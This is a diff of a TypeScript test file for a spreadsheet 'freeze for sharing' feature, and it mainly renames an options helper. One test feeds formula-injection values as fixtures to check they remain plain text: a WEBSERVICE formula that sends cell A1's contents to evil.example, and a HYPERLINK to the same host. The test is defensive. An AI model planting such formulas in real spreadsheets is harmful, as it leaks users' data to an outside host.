@@ -1,6 +1,6 @@
 import { freezeForSharing } from "../../src/office/freeze";
 import { RECEIPT_SHEET } from "../../src/office/refresh-scope-ranges";
-import { deskFreezeOptions } from "./desk-options";
+import { freezeOptions } from "./sheet-options";
 import { FakeWorkbook } from "./workbook-fake";
 
 /**
@@ -32,7 +32,7 @@ test("every text the cells show is still that exact text after freezing, and not
   // The sheet really shows these texts before freezing.
   expect(TEXTS.map((_, row) => book.shown(`Sheet1!B${row + 1}`))).toEqual(TEXTS);
 
-  const outcome = await freezeForSharing(book.context, deskFreezeOptions({ scope: "sheet" }));
+  const outcome = await freezeForSharing(book.context, freezeOptions({ scope: "sheet" }));
 
   expect(outcome.frozen).toBe(TEXTS.length);
   expect(book.liveFormulas()).toEqual({});
@@ -43,7 +43,7 @@ test("every text the cells show is still that exact text after freezing, and not
 
 test("service text in the receipt (a status as publication mode, an error message) stays text too", async () => {
   const book = await sheetOfTexts();
-  const options = deskFreezeOptions({
+  const options = freezeOptions({
     scope: "sheet",
     provenanceOf: () => ({ asOf: "2025-01-06", publicationMode: '=WEBSERVICE("http://evil.example/"&A1)' }),
     errorOf: () => '-HYPERLINK("http://evil.example")',
